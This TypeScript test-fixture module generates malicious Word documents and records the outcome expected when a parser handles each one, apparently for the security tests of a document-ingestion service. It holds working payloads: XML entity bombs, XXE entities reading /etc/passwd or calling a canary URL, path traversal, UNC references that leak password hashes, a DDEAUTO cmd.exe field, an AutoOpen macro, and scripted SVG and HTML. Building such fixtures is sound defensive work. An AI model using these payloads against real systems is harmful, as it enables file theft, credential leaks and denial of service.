import { type Canary, clause, type HostileFile, type Outcome } from '../hostile-file.ts';
import { letters, mebibyte, noise } from './repeatable-bytes.ts';
import { documentXml, paragraph, partXml, type Relationship, relationshipsXml, wordFile } from './word-parts.ts';
import type { ZipEntry } from './zip-bytes.ts';

function word(
  name: string,
  attack: string,
  expected: readonly Outcome[],
  content: (canary: Canary) => Buffer,
): HostileFile {
  const text = expected.includes('ready') ? { text: clause } : {};
  return { name, filename: `${name}.docx`, attack, expected, content, ...text };
}

const unsafeXml: readonly Outcome[] = ['unreadable unsafe_xml'];
const damaged: readonly Outcome[] = ['unreadable damaged'];
const exhausting: readonly Outcome[] = [
  'unreadable out_of_memory',
  'unreadable timed_out',
  'unreadable too_large',
  'unreadable damaged',
];

function declaring(subset: string, text: string): string {
  return documentXml(paragraph(clause) + paragraph(text), `<!DOCTYPE d ${subset}>`);
}

function billionLaughs(): string {
  const levels = Array.from({ length: 10 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`);
  return declaring(`[<!ENTITY l0 "lol">${levels.join('')}]`, '&l10;');
}

/** XML that declares something. */
const declarations: readonly HostileFile[] = [
  word('word-billion-laughs', 'declares ten levels of entities (10^10 times "lol")', unsafeXml, () =>
    wordFile(billionLaughs()),
  ),
  word('word-quadratic-entities', 'declares one long entity and uses it 50,000 times', unsafeXml, () =>
    wordFile(declaring(`[<!ENTITY a "${'a'.repeat(50_000)}">]`, '&a;'.repeat(50_000))),
  ),
  word('word-entity-of-a-local-file', 'declares an entity with the content of /etc/passwd', unsafeXml, () =>
    wordFile(declaring('[<!ENTITY a SYSTEM "file:///etc/passwd">]', '&a;')),
  ),
  word('word-entity-of-a-web-address', 'declares an entity with the content of a web address', unsafeXml, ({ url }) =>
    wordFile(declaring(`[<!ENTITY a SYSTEM "${url}entity">]`, '&a;')),
  ),
  word('word-parameter-entity', 'declares a parameter entity that loads declarations', unsafeXml, ({ url }) =>
    wordFile(declaring(`[<!ENTITY % a SYSTEM "${url}declarations"> %a;]`, '')),
  ),
  word('word-external-declarations', 'has its declarations at a web address', unsafeXml, ({ url }) =>
    wordFile(declaring(`SYSTEM "${url}declarations"`, '')),
  ),
  word('word-declarations-in-relationships', 'declares an entity among its relationships', unsafeXml, ({ url }) =>
    wordFile(documentXml(paragraph(clause)), [
      {
        name: 'word/_rels/document.xml.rels',
        data: `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a SYSTEM "${url}relationships">]>${relationshipsXml([]).replace(/^<\?.*?\?>/, '')}`,
      },
    ]),
  ),
  word('word-declarations-in-content-types', 'declares an entity among its content types', unsafeXml, ({ url }) =>
    wordFile(documentXml(paragraph(clause)), [
      { name: '[Content_Types].xml', data: `<!DOCTYPE d [<!ENTITY a SYSTEM "${url}types">]><Types>&a;</Types>` },
    ]),
  ),
  word(
    'word-declarations-in-utf-16',
    'declares entities in UTF-16, where a search for bytes misses them',
    [...unsafeXml, ...damaged],
    () => wordFile(Buffer.from(`\ufeff${billionLaughs().replace('UTF-8', 'UTF-16')}`, 'utf16le')),
  ),
  word(
    'word-declarations-in-utf-16-without-mark',
    'declares entities in UTF-16 that nothing announces',
    [...unsafeXml, ...damaged],
    () => wordFile(Buffer.from(billionLaughs().replace('UTF-8', 'UTF-16'), 'utf16le').swap16()),
  ),
  word('word-declarations-in-utf-32', 'declares entities in UTF-32', [...unsafeXml, ...damaged], () =>
    wordFile(
      Buffer.from(
        Uint32Array.from([...`\ufeff${billionLaughs()}`], (character) => character.codePointAt(0) ?? 0).buffer,
      ),
    ),
  ),
  word(
    'word-declarations-in-utf-7',
    'declares entities in UTF-7',
    [...unsafeXml, ...damaged, 'unreadable no_text'],
    () => wordFile(billionLaughs().replace('UTF-8', 'UTF-7').replace('<!DOCTYPE', '+ADwAIQ-DOCTYPE')),
  ),
  word('word-undeclared-entities', 'uses entities that nothing declares', ['ready', ...damaged], () =>
    wordFile(documentXml(paragraph(clause) + paragraph('&nothing;&#0;&#xD800;&#xFFFFFFFFF;'))),
  ),
];

function drawing(id: string): string {
  return `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="${id}" r:embed="${id}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
}

/** A document that refers to `targets`, and uses each reference in each way that there is. */
function referring(relationships: readonly Relationship[], more: readonly ZipEntry[] = []): Buffer {
  const uses = relationships.map((_, index) => {
    const id = `rId${index + 1}`;
    return `${drawing(id)}<w:altChunk r:id="${id}"/><w:p><w:hyperlink r:id="${id}"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:pict><v:shape><v:imagedata r:id="${id}" o:href="${id}"/></v:shape></w:pict><w:object><o:OLEObject Type="Link" r:id="${id}"/></w:object></w:r></w:p><w:subDoc r:id="${id}"/>`;
  });
  return wordFile(documentXml(paragraph(clause) + uses.join('')), [
    { name: 'word/_rels/document.xml.rels', data: relationshipsXml(relationships) },
    ...more,
  ]);
}

const referenceTypes = [
  'image',
  'hyperlink',
  'aFChunk',
  'attachedTemplate',
  'oleObject',
  'subDocument',
  'frame',
  'styles',
  'numbering',
  'footnotes',
  'comments',
  'settings',
  'video',
  'font',
];

function fields(...instructions: string[]): string {
  const field = (instruction: string) =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>field</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
  return documentXml(paragraph(clause) + instructions.map(field).join(''));
}

/** References to what is elsewhere. */
const references: readonly HostileFile[] = [
  word(
    'word-references-to-the-web',
    'takes pictures, templates, styles and parts from a web address',
    ['ready'],
    ({ url }) => referring(referenceTypes.map((type) => ({ type, target: `${url}${type}`, external: true }))),
  ),
  word(
    'word-references-to-the-web-as-parts',
    'names web addresses as parts of itself',
    ['ready', ...damaged],
    ({ url }) => referring(referenceTypes.map((type) => ({ type, target: `${url}${type}` }))),
  ),
  word(
    'word-references-to-local-files',
    'takes pictures, templates, styles and parts from file:///etc/passwd',
    ['ready'],
    () => referring(referenceTypes.map((type) => ({ type, target: 'file:///etc/passwd', external: true }))),
  ),
  word(
    'word-references-to-file-shares',
    'takes them from a share of Windows, which would be sent a password hash',
    ['ready'],
    ({ url }) =>
      referring(
        referenceTypes.map((type) => ({ type, target: `\\\\${new URL(url).host}\\share\\${type}`, external: true })),
      ),
  ),
  word('word-references-past-its-root', 'names ../../../../etc/passwd as its parts', ['ready', ...damaged], () =>
    referring(referenceTypes.map((type) => ({ type, target: '../../../../../../etc/passwd' }))),
  ),
  word('word-main-part-at-a-web-address', 'has its main part at a web address', ['ready', ...damaged], ({ url }) =>
    wordFile(documentXml(paragraph(clause)), [
      {
        name: '_rels/.rels',
        data: relationshipsXml([{ type: 'officeDocument', target: `${url}document.xml`, external: true }]),
      },
    ]),
  ),
  word(
    'word-fields-that-load-and-start',
    'has fields that include a file and start a program (DDE)',
    ['ready'],
    ({ url }) =>
      wordFile(
        fields(
          `INCLUDETEXT "${url}text"`,
          'INCLUDETEXT "file:///etc/passwd"',
          `INCLUDEPICTURE "${url}picture"`,
          'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
        ),
      ),
  ),
  word('word-html-chunk', 'holds a web page with scripts', ['ready'], ({ url }) =>
    referring(
      [{ type: 'aFChunk', target: 'page.html' }],
      [{ name: 'word/page.html', data: `<script src="${url}script"></script><iframe src="${url}frame"></iframe>` }],
    ),
  ),
  word('word-picture-with-scripts', 'holds an SVG picture with scripts and references', ['ready'], ({ url }) =>
    referring(
      [{ type: 'image', target: 'media/a.svg' }],
      [
        {
          name: 'word/media/a.svg',
          data: `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("${url}svg")</script><image href="${url}image"/></svg>`,
        },
      ],
    ),
  ),
  word('word-macros', 'holds macros that run when it is opened', ['ready'], () =>
    wordFile(documentXml(paragraph(clause)), [
      {
        name: 'word/vbaProject.bin',
        data: Buffer.concat([
          Buffer.from('d0cf11e0a1b11ae1', 'hex'),
          Buffer.from('Sub AutoOpen()\nShell "calc"\nEnd Sub'),
        ]),
      },
    ]),
  ),
  word('word-embedded-programs', 'holds OLE objects with programs', ['ready'], () =>
    referring(
      [{ type: 'oleObject', target: 'embeddings/a.bin' }],
      [
        { name: 'word/embeddings/a.bin', data: Buffer.concat([Buffer.from('MZ'), noise(50_000)]) },
        {
          name: 'word/activeX/activeX1.xml',
          data: '<ax:ocx xmlns:ax="x" ax:classid="{D27CDB6E-AE6D-11cf-96B8-444553540000}"/>',
        },
      ],
    ),
  ),
];

/** Notes by id, and the reference to one. */
function withNotes(body: string, notes: readonly string[]): Buffer {
  const content = notes.map((note, id) => `<w:footnote w:id="${id}">${note}</w:footnote>`).join('');
  return wordFile(documentXml(paragraph(clause) + body), [
    { name: 'word/_rels/document.xml.rels', data: relationshipsXml([{ type: 'footnotes', target: 'footnotes.xml' }]) },
    { name: 'word/footnotes.xml', data: partXml('footnotes', content) },
  ]);
}

function noteReferences(...ids: number[]): string {
  return `<w:p>${ids.map((id) => `<w:r><w:footnoteReference w:id="${id}"/></w:r>`).join('')}<w:r><w:t>note</w:t></w:r></w:p>`;
}

function withStyles(styles: string): Buffer {
  const body = `<w:p><w:pPr><w:pStyle w:val="a"/><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>styled</w:t></w:r></w:p>`;
  const numbering = `<w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="n"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>`;
  return wordFile(documentXml(paragraph(clause) + body), [
    {
      name: 'word/_rels/document.xml.rels',
      data: relationshipsXml([
        { type: 'styles', target: 'styles.xml' },
        { type: 'numbering', target: 'numbering.xml' },
      ]),
    },
    { name: 'word/styles.xml', data: partXml('styles', styles) },
    { name: 'word/numbering.xml', data: partXml('numbering', numbering) },
  ]);
}

function nested(open: string, content: string, close: string, depth: number): string {
  return open.repeat(depth) + content + close.repeat(depth);
}

/** Cycles, and depths and counts beyond any document. */
const shapes: readonly HostileFile[] = [
  word('word-note-that-refers-to-itself', 'has a footnote with a reference to itself', ['ready'], () =>
    withNotes(noteReferences(0), [noteReferences(0)]),
  ),
  word('word-notes-that-double', 'has 40 footnotes that each refer to the next one twice', ['ready'], () =>
    withNotes(
      noteReferences(0),
      Array.from({ length: 40 }, (_, id) => noteReferences(id + 1, id + 1)),
    ),
  ),
  word('word-styles-in-a-circle', 'has styles that are based on each other and number each other', ['ready'], () =>
    withStyles(
      '<w:style w:type="paragraph" w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:type="paragraph" w:styleId="b"><w:basedOn w:val="a"/></w:style><w:style w:type="numbering" w:styleId="n"><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>',
    ),
  ),
  word('word-nested-30000-deep', 'nests 30,000 elements', exhausting, () =>
    wordFile(documentXml(nested('<w:sdt><w:sdtContent>', paragraph(clause), '</w:sdtContent></w:sdt>', 15_000))),
  ),
  word('word-tables-in-tables', 'nests 1,000 tables', ['ready', ...exhausting], () =>
    wordFile(documentXml(paragraph(clause) + nested('<w:tbl><w:tr><w:tc>', '<w:p/>', '</w:tc></w:tr></w:tbl>', 1000))),
  ),
  word(
    'word-nested-namespaces',
    'declares a namespace on each of 3,000 nested elements',
    ['ready', ...exhausting],
    () => {
      const open = Array.from({ length: 3000 }, (_, index) => `<w:sdt xmlns:n${index}="n${index}"><w:sdtContent>`).join(
        '',
      );
      return wordFile(documentXml(paragraph(clause) + open + '</w:sdtContent></w:sdt>'.repeat(3000)));
    },
  ),
  word('word-element-of-300000-attributes', 'has an element with 300,000 attributes', ['ready', ...exhausting], () => {
    const attributes = Array.from(
      { length: 300_000 },
      (_, index) => `a${index.toString(36)}="${(index * 7919).toString(36)}"`,
    );
    return wordFile(documentXml(`${paragraph(clause)}<w:p ${attributes.join(' ')}/>`));
  }),
  word(
    'word-attribute-of-20-megabytes',
    'has an attribute of 20 MB',
    ['ready', ...exhausting, 'refused DANGEROUS_FILE'],
    () => wordFile(documentXml(`${paragraph(clause)}<w:p w:a="${letters(20 * mebibyte)}"/>`)),
  ),
  word('word-run-of-20-megabytes', 'has one run of text of 20 MB', ['unreadable too_large'], () =>
    wordFile(documentXml(paragraph(clause) + paragraph(letters(20 * mebibyte)))),
  ),
  word('word-million-empty-paragraphs', 'has a million empty paragraphs', exhausting, () =>
    wordFile(documentXml(paragraph(clause) + varied(1_000_000, (id) => `<w:p w:rsidR="${id}"/>`).join(''))),
  ),
  word('word-600000-page-breaks', 'has 600,000 page breaks', ['ready', ...exhausting], () =>
    wordFile(
      documentXml(
        paragraph(clause) +
          varied(600_000, (id) => `<w:p><w:r><w:br w:type="page"/><w:t>${id}</w:t></w:r></w:p>`).join(''),
      ),
    ),
  ),
  word('word-comment-of-12-megabytes', 'has an XML comment of 12 MB', ['ready', ...exhausting], () =>
    wordFile(documentXml(`${paragraph(clause)}<!--${letters(12 * mebibyte)}-->`)),
  ),
  word('word-broken-utf-8', 'has bytes that are not UTF-8', ['ready', ...damaged], () =>
    wordFile(
      Buffer.concat([
        Buffer.from(documentXml(paragraph(clause)).replace('</w:body></w:document>', '<w:p><w:r><w:t>')),
        Buffer.from([0xc0, 0x80, 0xff, 0xfe, 0xed, 0xa0, 0x80]),
        Buffer.from('</w:t></w:r></w:p></w:body></w:document>'),
      ]),
    ),
  ),
  word('word-main-part-of-noise', 'has noise for a main part', damaged, () => wordFile(noise(100_000))),
  word('word-main-part-of-nul', 'has a main part of NUL bytes', [...damaged, 'unreadable no_text'], () =>
    wordFile(Buffer.alloc(100_000)),
  ),
];

function varied(count: number, item: (id: string) => string): string[] {
  return Array.from({ length: count }, (_, index) => item(((index * 2654435761) % 2 ** 32).toString(36)));
}

export const wordDocuments: readonly HostileFile[] = [...declarations, ...references, ...shapes];
